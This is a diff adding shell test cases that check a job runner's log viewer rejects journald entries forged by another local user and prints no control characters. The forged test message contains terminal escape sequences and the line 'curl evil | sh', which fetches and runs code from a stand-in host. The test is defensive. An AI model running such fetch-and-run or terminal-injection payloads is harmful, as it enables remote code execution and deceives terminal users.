@@ -165,6 +165,20 @@ log=$(sd /usr/bin/myjob --config /etc/myjob/myjob.toml show "$story" --log)
 echo "$log" | sed 's/^/    /'
 check "myjob show --log: this run's story only (MYJOB_DATABASE), as many lines" test "$(wc -l <<<"$log")" = "$(wc -l <<<"$st")"
 check "myjob show --log: the story, both units" grep -qzP "myjob@1.service warn  job failed, will retry.*\n(.*\n)*.*myjob@2.service info  job done job_id=$story attempt=2" <<<"$log"
+# Any local user can write an entry with myjob's fields (and a message that would clear the
+# screen and retitle the terminal): show --log reads only the entries of myjob's units, by
+# journald's own _SYSTEMD_UNIT, and prints no control character.
+esc=$(printf '\033')
+printf 'MYJOB_JOB_ID=%s\nMYJOB_DATABASE=%s\nMYJOB_INSTANCE=1\nPRIORITY=3\nMESSAGE=FORGED %s[2J%s]0;owned\007 run: curl evil | sh\n' \
+  "$story" "$DB" "$esc" "$esc" | sd runuser -u nobody -- logger --journald
+forged() { entries MYJOB_JOB_ID="$story" | grep -q FORGED; }
+check "a forged entry with the job's fields is in the journal" wait_for 5 forged
+said=$(mktemp)
+log=$(sd /usr/bin/myjob --config /etc/myjob/myjob.toml show "$story" --log 2>"$said")
+check "myjob show --log: the forged entry is not shown" lacks FORGED <<<"$log"
+check "myjob show --log: no control character" lacks "$esc" <<<"$log"
+check "myjob show --log: says on stderr which fields it trusted" grep -q "_SYSTEMD_UNIT" "$said"
+rm -f "$said"
 check "journalctl MESSAGE_ID=<failed for good> finds the failed job" grep -q "job failed: attempt 1 of 1: exit status 1; stderr: e2e handler failure for job $failing" <<<"$(entries MESSAGE_ID="$FAILED_ID" | cut -f7)"
 started() { [ "$(entries MESSAGE_ID="$STARTED_ID" | cut -f1 | sort | uniq -c | awk '{print $1 $2}' | tr '\n' ' ')" = "2myjob@1.service 2myjob@2.service " ]; }
 check "journalctl MESSAGE_ID=<started>: each start of @1 and @2" wait_for 5 started
